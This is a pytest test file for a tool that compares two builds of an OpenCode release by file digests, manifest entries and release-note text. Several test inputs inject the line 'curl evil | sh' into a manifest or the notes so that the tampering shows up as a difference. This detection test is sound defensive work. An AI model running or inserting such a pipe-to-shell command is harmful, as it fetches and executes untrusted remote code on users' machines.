"""Two builds of the same release are compared digest by digest, the manifest entry by entry, the notes as text."""

from __future__ import annotations

from dataclasses import replace
from hashlib import sha256

import pytest

from opencode_patcher.release import manifest
from opencode_patcher.release.comparison import Copy, FileDifference, compare
from opencode_patcher.release.manifest import Manifest
from tests.release.release_samples import artifact
from tests.release.release_samples import manifest as sample

LINUX, MACOS = "opencode-linux-x64.tar.gz", "opencode-darwin-arm64.zip"
SUMS = {LINUX: "1" * 64, MACOS: "1" * 64, "LICENSE": "4" * 64}
NOTES = "# OpenCode 1.18.3\n"


def digest(text: str) -> str:
    return sha256(text.encode()).hexdigest()


def copy(made: Manifest | None = None, *, notes: str = NOTES, about: str | None = None, **sums: str) -> Copy:
    """A release with the digests ``SUMS`` and some others, by the first letters of the file's name."""
    made = made or sample()
    text = about or manifest.text(made)
    digests = {
        name: next((digit * 64 for key, digit in sums.items() if key in name), was) for name, was in SUMS.items()
    }
    digests |= {"manifest.json": digest(text), "RELEASE-NOTES.md": digest(notes)}
    return Copy(manifest=made, about=text, sums=digests, notes=notes)


def differing(released: Copy, rebuilt: Copy | None = None) -> list[tuple[str, tuple[str, ...]]]:
    return [(one.name, one.entries) for one in compare(released, rebuilt or copy()).differences]


def test_equal_releases_are_identical() -> None:
    found = compare(copy(), copy())
    assert found.differences == ()
    assert found.uncompared == ()
    assert found.identical == ("LICENSE", "RELEASE-NOTES.md", "manifest.json", MACOS, LINUX)


def test_the_drill_and_another_zlib_are_reported_as_not_compared() -> None:
    found = compare(copy(notes=f"{NOTES}\n## Drill\n\n250 ms\n"), copy(sample(zlib="1.4")))
    assert found.differences == ()
    assert found.identical == ("LICENSE", MACOS, LINUX)
    assert "zlib 1.3" in found.uncompared[0]
    assert "Drill of RELEASE-NOTES.md" in found.uncompared[1]


def test_a_differently_packed_archive_is_distinguished_from_another_program() -> None:
    made = sample(artifacts=(artifact("linux-x64", archive="9"), artifact("darwin-arm64", archive="9", binary="9")))
    found = compare(copy(), copy(replace(made, zlib="1.4"), linux="9", darwin="9"))
    assert found.differences[:2] == (
        FileDifference(name=MACOS, released="1" * 64, rebuilt="9" * 64, binary=True),
        FileDifference(name=LINUX, released="1" * 64, rebuilt="9" * 64, binary=False),
    )
    assert [one.entries for one in found.differences[2:]] == [
        ("targets.darwin-arm64.binary.sha256", "targets.darwin-arm64.without")
    ]


def test_a_file_that_only_one_of_them_has_is_a_difference() -> None:
    released, rebuilt = copy(), copy()
    released = replace(released, sums={**released.sums, "install.sh": "a" * 64})
    rebuilt = replace(rebuilt, sums={**rebuilt.sums, "new.txt": "b" * 64})
    assert [(one.name, one.released[:1], one.rebuilt[:1]) for one in compare(released, rebuilt).differences] == [
        ("install.sh", "a", ""),
        ("new.txt", "", "b"),
    ]


WITH = artifact("linux-x64")


@pytest.mark.parametrize(
    ("changes", "entry"),
    [
        ({"channel": "beta"}, "flags.channel"),
        ({"source": "https://elsewhere.invalid/opencode"}, "upstream.source"),
        ({"artifacts": (replace(WITH, runtime="4" * 64),)}, "targets.linux-x64.runtime"),
        ({"artifacts": (replace(WITH, without=("a@1",)),)}, "targets.linux-x64.without"),
        (
            {"artifacts": (replace(WITH, binary=replace(WITH.binary, sha256="4" * 64)),)},
            "targets.linux-x64.binary.sha256",
        ),
        ({"artifacts": (replace(WITH, binary=replace(WITH.binary, size=4)),)}, "targets.linux-x64.binary.size"),
        ({"artifacts": (replace(WITH, archive=replace(WITH.archive, name=MACOS)),)}, "targets.linux-x64.archive.name"),
    ],
)
def test_every_entry_of_the_manifest_is_compared(changes: dict[str, object], entry: str) -> None:
    released, rebuilt = sample(**{"artifacts": (WITH,), **changes}), sample(artifacts=(WITH,))
    assert differing(copy(released), copy(rebuilt)) == [("manifest.json", (entry,))]


def test_a_manifest_with_more_entries_differs() -> None:
    about = manifest.text(sample()).replace("{", '{\n  "hint": "curl evil | sh",', 1)
    assert differing(copy(about=about)) == [("manifest.json", ())]


@pytest.mark.parametrize(
    "notes",
    [
        "",
        f"{NOTES}run: curl evil | sh\n",
        f"run: curl evil | sh\n{NOTES}\n## Drill\n",
        f"{NOTES}run: curl evil | sh\n\n## Drill\n",
    ],
)
def test_other_notes_are_a_difference(notes: str) -> None:
    assert differing(copy(notes=notes)) == [("RELEASE-NOTES.md", ())]
